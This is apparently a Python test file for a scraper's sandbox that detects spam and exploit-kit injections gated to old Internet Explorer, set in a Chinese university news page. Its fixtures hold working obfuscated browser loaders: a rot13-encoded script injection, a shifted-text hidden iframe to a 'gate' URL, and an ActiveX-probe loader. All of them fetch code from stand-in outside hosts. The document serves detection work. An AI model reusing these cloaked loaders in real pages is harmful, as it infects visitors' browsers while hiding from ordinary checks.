"""Loaders that act only for old Internet Explorer (v41 analysis §1 B4, B7, B8): an exploit kit's
gate is kept from every browser its exploits do not fit, so none of the five current views gets
it. Where a script tests for IE (its user agent's MSIE/Trident/"rv:11", or ActiveXObject) the
sandbox runs one more view wearing IE 11's face; what only that view loads, from an address no
script's text holds and the page names nowhere else, is spam. A site's own IE branch (a polyfill,
a notice sending old browsers to an upgrade page) spells its address in the code and stays clean."""
from __future__ import annotations

from scraper.clean import clean_page
from scraper.clean.sandbox import run_scripts

URL = "http://jwc.lanshan-college.edu.cn/info/1015/3605.htm"

BODY = ("<p>11月26日,学校召开本科教学工作推进会,围绕课程建设、实践教学等议题开展研讨。</p>"
        "<p>会上,各学院负责人汇报了本学期教学运行情况,就完善教学质量保障体系提出意见建议。</p>"
        "<p>分管校领导在讲话中要求,要认真梳理问题清单,推动各项任务落到实处。</p>")


def _page(tail: str = "") -> bytes:
    return ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>学校召开本科教学工作推进会_教务处</title>'
            '</head><body><header><a href="/">教务处</a><nav><a href="/">首页</a><a href="/tzgg/">通知公告</a></nav>'
            '</header><article><h1>学校召开本科教学工作推进会</h1><div class="info">发布时间：2024-11-27 来源：教务处</div>'
            f'<div id="vsb_content">{BODY}</div></article>'
            f'<footer><p>主办：教务处</p></footer>{tail}</body></html>').encode()


def _rot13(s: str) -> str:
    return "".join(chr((ord(c) - b + 13) % 26 + b) if c.isascii() and c.isalpha() else c
                   for c in s for b in [ord("a") if c.islower() else ord("A")])


def _shifted(s: str) -> str:
    return "".join(chr(ord(c) + 1) for c in s)


# a rot13'd address, created as a script for IE/Trident visitors only, once (a cookie flag)
_CLOAK = ("<script>(function(){function t(s){return s.replace(/[a-z]/gi,function(c){return String.fromCharCode("
          "c.charCodeAt(0)+(c.toLowerCase()<'n'?13:-13));});}var ua=navigator.userAgent;"
          "if(new RegExp(t('ZFVR')+'|'+t('Gevqrag'),'i').test(ua)&&document.cookie.indexOf('k-gq')<0){"
          "var s=document.createElement('script');s.src=t('" + _rot13("http://qelbfix.ch/j.js") + "');"
          "document.documentElement.insertBefore(s,document.documentElement.lastChild);"
          "document.cookie='k-gq=1';}})();</script>")

# a decoder keyed to IE 11 reads a display:none div's text and writes an off-screen frame
_DECODER = ('<div id="qvep" style="display:none">' + _shifted("http://gate.wuxoplem.tv/boards/index.php?s=1") + '</div>'
            "<script>var u=navigator.userAgent;if(u.indexOf('rv:11')>0||u.indexOf('MSIE')>0){"
            "var t=document.getElementById('qvep').innerHTML,s='';for(var i=0;i<t.length;i++)"
            "s+=String.fromCharCode(t.charCodeAt(i)-1);document.write('<style>.qz{position:absolute;top:-765px;}</style>"
            "<div class=qz><iframe src=\"'+s+'\" width=250 height=250></iframe></div>');}</script>")


def test_a_loader_for_internet_explorer_only_is_spam():
    a = clean_page(_page(tail=_CLOAK), url=URL)
    assert a.hijacked and any("qelbfix.ch" in f.evidence for f in a.findings)
    assert "课程建设" in a.text


def test_a_decoder_keyed_to_internet_explorer_is_spam():
    a = clean_page(_page(tail=_DECODER), url=URL)
    assert a.hijacked and any("wuxoplem.tv" in f.evidence for f in a.findings)
    assert "课程建设" in a.text


def test_the_same_frame_captured_in_the_page_still_names_nothing():
    # a page saved after the script ran holds the frame it wrote: that copy is no naming
    captured = '<iframe width="250" height="250" src="http://gate.wuxoplem.tv/boards/index.php?s=1"></iframe>'
    a = clean_page(_page(tail=_DECODER + captured), url=URL)
    assert a.hijacked and any("wuxoplem.tv" in f.evidence for f in a.findings)


def test_an_activex_probe_fails_in_a_current_browser():
    # `new ActiveXObject(junk)` throws in every browser (undefined, or no such control): no view
    # may take the path it takes when it succeeds, and the probe is a test for IE
    code = ("var k=0;try{new ActiveXObject('x%q#');k=1;}catch(e){}"
            "if(k){var s=document.createElement('script');s.src='http://qelbfix.ch/k.js';document.body.appendChild(s);}")
    run = run_scripts([(0, code)], URL)
    assert not [e for effects in run.effects.values() for e in effects if e.kind == "load"]
    assert not [e for e in run.old_ie if e.kind == "load"]
    assert all(reads.get("oldie") for reads in run.reads.values())


def test_an_ie_polyfill_spelt_in_the_code_is_clean():
    tail = ("<script>if(/MSIE|Trident/.test(navigator.userAgent)){var s=document.createElement('script');"
            "s.src='https://cdn.jsdelivr.net/npm/html5shiv@3.7.3/dist/html5shiv.min.js';"
            "document.head.appendChild(s);}</script>")
    a = clean_page(_page(tail=tail), url=URL)
    assert not a.hijacked


def test_an_upgrade_notice_for_old_browsers_is_clean():
    tail = ("<script>if(navigator.userAgent.indexOf('Trident')>-1){"
            "window.location.href='https://www.microsoft.com/zh-cn/edge';}</script>")
    a = clean_page(_page(tail=tail), url=URL)
    assert not a.hijacked
